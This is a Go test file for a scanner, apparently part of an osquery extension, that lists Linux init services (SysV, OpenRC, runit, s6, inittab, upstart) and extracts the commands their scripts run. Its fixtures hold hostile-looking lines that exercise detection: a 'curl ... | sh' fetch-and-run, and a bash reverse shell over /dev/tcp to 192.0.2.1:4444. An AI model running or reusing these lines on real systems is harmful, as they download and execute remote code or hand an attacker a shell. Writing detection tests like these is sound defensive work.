package sysv

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/osquery-rollcall/rollcall/extension/evidence"
	"github.com/osquery-rollcall/rollcall/tests/cputime"
)

func plant(t testing.TB, root string, tree map[string]string) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("NOT TESTED: init scripts of a Linux host, on Windows")
	}
	for name, text := range tree {
		mode := os.FileMode(0o644)
		if cut, ok := strings.CutSuffix(name, "!"); ok {
			name, mode = cut, 0o755
		}
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if to, ok := strings.CutPrefix(text, "-> "); ok {
			err = os.Symlink(to, p)
		} else if err = os.WriteFile(p, []byte(text), mode); err == nil {
			err = os.Chmod(p, mode)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

func options() Options {
	if uid := os.Getuid(); uid > 0 {
		return Options{Trust: []uint32{uint32(uid)}}
	}
	return Options{}
}

func told(t testing.TB, root string) (all []string, r *Result) {
	t.Helper()
	r, err := Scan(context.Background(), root, options())
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range r.Services {
		all = append(all, strings.TrimSpace(fmt.Sprintf("%s %s enabled=%v %v %s|%s|%s", v.Kind, v.Name, v.Enabled, v.Runlevels, v.Program, v.Args, v.Account)))
	}
	return all, r
}

const lsb = `#!/bin/sh
### BEGIN INIT INFO
# Provides:          web httpd
# Default-Start:     2 3 4 5
# Short-Description: a web server
### END INIT INFO
NAME=web
DAEMON=/usr/sbin/$NAME
DAEMON_ARGS="--conf /etc/${NAME}.conf"
DAEMON_USER=www
`

func TestServices(t *testing.T) {
	root := t.TempDir()
	plant(t, root, map[string]string{
		"etc/init.d/web!":           lsb,
		"usr/sbin/web!":             "x",
		"etc/rc2.d/S01web":          "-> ../init.d/web",
		"etc/rc3.d/S01web":          "-> ../init.d/web",
		"etc/rc0.d/K01web":          "-> ../init.d/web",
		"etc/init.d/off!":           "#!/bin/sh\n# chkconfig: 35 90 10\n# description: an old script\nprog=/usr/bin/off\n",
		"etc/init.d/README":         "x",
		"etc/init.d/plain":          "not executable",
		"etc/rc5.d/S99evil":         "-> /tmp/evil.sh",
		"tmp/evil.sh!":              "#!/bin/sh\nDAEMON=/dev/shm/x\n",
		"etc/rc5.d/S98own!":         "#!/bin/sh\n",
		"etc/init.d/rcd!":           "#!/sbin/openrc-run\ncommand=\"/usr/bin/${RC_SVCNAME}\"\n",
		"etc/init.d/rc2!":           "#!/sbin/openrc-run\ndescription=\"an OpenRC one\"\ncommand=/usr/bin/rc2\ncommand_args='-f -d'\ncommand_user=\"rcuser:rcgroup\"\n",
		"etc/runlevels/default/rc2": "-> /etc/init.d/rc2",
		"etc/rc.local!":             "#!/bin/sh\n/opt/x &\n",
		"etc/sv/log/run!":           "#!/bin/sh\nexec 2>&1\nexec chpst -u svc:grp -e ./env /usr/bin/logger -n 5\n",
		"etc/service/log":           "-> /etc/sv/log",
		"etc/sv/idle/run!":          "#!/bin/sh\nexec idle\n",
		"var/service/stray/run!":    "#!/bin/sh\nexec /tmp/stray\n",
		"etc/services.d/s6/run!":    "#!/usr/bin/execlineb -P\ns6-setuidgid app\n/usr/bin/app --x\n",
		"etc/inittab":               "# c\nid:2:initdefault:\n1:2345:respawn:/sbin/getty 38400 tty1\nx:S:once:-/tmp/y a b\nca:12345:ctrlaltdel:/sbin/shutdown\n::respawn:/bin/bb\n",
		"etc/init/job.conf":         "description \"a job\"\nstart on runlevel [2345]\nexec /usr/bin/job --all\n",
		"etc/local.d/x.start!":      "x",
		"etc/rc.d/init.d":           "-> ../init.d",
	})
	got, r := told(t, root)
	want := []string{
		"inittab 1 enabled=true [2 3 4 5] /sbin/getty|38400 tty1|", "inittab bb enabled=true [] /bin/bb||", "inittab x enabled=true [S] /tmp/y|a b|",
		"openrc rc2 enabled=true [default] /usr/bin/rc2|-f -d|rcuser", "openrc rcd enabled=false [] /usr/bin/${RC_SVCNAME}||", "openrc x.start enabled=true [] ||",
		"runit idle enabled=false [] idle||", "runit log enabled=true [] /usr/bin/logger|-n 5|svc", "runit stray enabled=true [] /tmp/stray||",
		"s6 s6 enabled=true [] /usr/bin/app|--x|",
		"sysv evil enabled=true [5] /dev/shm/x||", "sysv off enabled=false [] /usr/bin/off||", "sysv own enabled=true [5] ||", "sysv rc.local enabled=true [] ||",
		"sysv web enabled=true [2 3] /usr/sbin/web|--conf /etc/web.conf|www", "upstart job enabled=true [] /usr/bin/job|--all|",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
	for _, v := range r.Services {
		switch v.Name {
		case "web":
			if v.OnDisk != evidence.Yes || v.Description != "a web server" || len(v.Links) != 2 || !cmp.Equal(v.Provides, []string{"web", "httpd"}) {
				t.Errorf("%+v", v)
			}
		case "evil":
			if v.Real != "/tmp/evil.sh" || v.LinkTarget != "/tmp/evil.sh" || v.OnDisk != evidence.No {
				t.Errorf("%+v", v)
			}
		case "off":
			if !cmp.Equal(v.DefaultStart, []string{"3", "5"}) || v.Description != "an old script" {
				t.Errorf("%+v", v)
			}
		}
	}
}

func TestOnlyChangesAreRead(t *testing.T) {
	root := t.TempDir()
	plant(t, root, map[string]string{"etc/init.d/web!": lsb, "etc/rc2.d/S01web": "-> ../init.d/web"})
	sc := NewScanner(root, options())
	scan := func() *Result {
		t.Helper()
		time.Sleep(2 * settle)
		r, err := sc.Scan(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	if !scan().Changed || scan().Changed {
		t.Error("the first scan is new, the second isn't")
	}
	plant(t, root, map[string]string{"etc/sv/a/run!": "exec /bin/a"})
	if r := scan(); !r.Changed || len(r.Services) != 2 {
		t.Errorf("%+v", r)
	}
}

func FuzzScripts(f *testing.F) {
	f.Add(lsb)
	f.Add("#!/sbin/openrc-run\ncommand=${a:-/x}$\ncommand_user=\"$x:y\n")
	f.Add("exec chpst -u a -P -b x env -i A=b /bin/x 'y'\n")
	f.Add("a:b:respawn:x y\n::once:-\nstart on x\nexec \n")
	f.Fuzz(func(t *testing.T, text string) {
		h := parseScript(text)
		if len(h.description) > maxText+3 || len(h.program) > 4*maxText {
			t.Fatalf("%d %d", len(h.description), len(h.program))
		}
		if utf8.ValidString(text) && !utf8.ValidString(h.description) {
			t.Logf("cut inside a letter: %q", h.description)
		}
		execLine(text)
		for _, e := range parseInittab(text) {
			if e.program == "" || e.id == "" {
				t.Fatalf("%+v", e)
			}
		}
		parseUpstart(text)
	})
}

func TestCommandsOfScripts(t *testing.T) {
	for _, c := range []struct{ name, script, want string }{
		{"rc.local", "#!/bin/sh -e\n# nothing\n/usr/bin/logger hi\nnohup /dev/shm/.x -d >/dev/null 2>&1 &\nX=/tmp\n$X/run.sh &\nexit 0\n",
			"/dev/shm/.x -d;/tmp/run.sh;/usr/bin/logger hi"},
		{"fetched", "#!/bin/bash\ncurl -s http://x.example/a | sh\nwget -q http://x.example/b\n",
			"/bin/sh -c curl -s http://x.example/a | sh;/bin/sh -c wget -q http://x.example/b"},
		{"shell over the network", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "/bin/sh -c bash -i &> /dev/tcp/192.0.2.1/4444"},
		{"function and case", "#!/bin/sh\nstart() {\n start-stop-daemon --start --background --exec /dev/shm/kdev -- -q\n}\ncase \"$1\" in\nstart) start; /tmp/.y & ;;\nstop) start-stop-daemon --stop --exec /opt/z ;;\nesac\n",
			"/dev/shm/kdev -q;/tmp/.y"},
		{"as another user", "#!/bin/sh\nsu - app -c '/home/app/run >/dev/null'\n", "/bin/sh -c /home/app/run >/dev/null"},
		{"red hat", "#!/bin/bash\n. /etc/init.d/functions\ndaemon --user=app +5 /opt/app/bin/appd -f /etc/app.conf\n", "/opt/app/bin/appd -f /etc/app.conf"},
		{"unknown variable", "#!/bin/sh\n$PROG -d\n\"$DAEMON_DIR/x\"\n/opt/$NAME/x\n", "/opt/$NAME/x"},
		{"no shell", "#!/usr/bin/python3\nimport os\nos.system('/tmp/x')\n", ""},
		{"ordinary", "#!/bin/sh\n[ -x /usr/sbin/x ] || exit 0\nrm -f /tmp/x\nmkdir -p /var/run/x\necho hi | grep h\nmodprobe loop\n", ""},
		{"broken", "#!/bin/sh\n/tmp/a\nif then fi (((\n", "/tmp/a"},
	} {
		var got []string
		runs, _ := runsOf(c.script)
		for _, r := range runs {
			got = append(got, strings.TrimSpace(r.Path+" "+r.Args))
		}
		if d := cmp.Diff(c.want, strings.Join(got, ";")); d != "" {
			t.Errorf("%s (-want +got):\n%s", c.name, d)
		}
	}
	long := "#!/bin/sh\n" + strings.Repeat("/usr/bin/true $x\n", 9000) + "/tmp/.last\n"
	if got, err := runsOf(long); err != nil || len(got) == 0 || got[0].Path != "/tmp/.last" || len(got) > maxRuns {
		t.Errorf("behind thousands of others: %v", got)
	}
}

func FuzzRunsOf(f *testing.F) {
	f.Add("#!/bin/sh\nnohup /dev/shm/.x | sh\n")
	f.Add("start-stop-daemon -x=/a -- -b\nsu -c x\ntimeout\nenv a=b")
	f.Fuzz(func(t *testing.T, text string) {
		began := cputime.Start()
		runs, _ := runsOf(text)
		for _, r := range runs {
			if !strings.HasPrefix(r.Path, "/") || len(r.Path) > maxText+8 || len(r.Args) > maxText+8 || !utf8.ValidString(r.Args) {
				t.Fatalf("%+v", r)
			}
		}
		if took := began.Took(); took > 5*time.Second {
			t.Fatalf("took %v", took)
		}
	})
}
